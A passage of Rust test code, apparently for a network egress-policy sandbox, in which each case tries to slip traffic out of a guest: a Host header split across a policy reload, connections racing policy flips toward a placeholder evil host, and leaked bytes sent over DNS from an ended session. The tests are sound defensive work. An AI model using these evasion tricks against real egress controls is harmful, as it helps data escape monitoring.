        assert_eq!(lab.ask("evil.example."), (ResponseCode::NoError, 1));
        let handle = lab.guest.connect(addr(&format!("{GOOD}:80")));
        lab.say(handle, b"GET / HTTP/1.1\r\nHost: evil.ex");
        thread::sleep(Duration::from_millis(50));
        lab.egress.reload(&policy()).unwrap();
        lab.say(handle, b"ample\r\n\r\n");
        lab.reset(handle)
    });
    lab.attempt("reloads-in-a-race", |lab| {
        let (egress, open) = (lab.egress.clone(), policy());
        let flip = thread::spawn(move || {
            for _ in 0..200 {
                egress.reload(&EgressPolicy::default()).unwrap();
                egress.reload(&open).unwrap();
            }
        });
        let mut handles = Vec::new();
        for round in 0..60 {
            let to = if round % 2 == 0 { format!("{EVIL}:443") } else { format!("{GOOD}:22") };
            handles.push(lab.guest.connect(addr(&to)));
        }
        flip.join().unwrap();
        handles.into_iter().all(|handle| lab.nothing_comes(handle))
    });
    lab.attempt("session-that-ended", |lab| {
        let other: IpAddr = session_addresses(1).unwrap().0.into();
        lab.egress.unassign(other);
        let from = SocketAddr::new(other, 5000);
        lab.throw([
            frames::syn(from, addr(&format!("{OTHER_SESSION_HOST}:443"))),
            frames::udp(from, SocketAddr::new(GATEWAY_V4.into(), 53), LEAK.as_bytes()),
        ])
    });
}
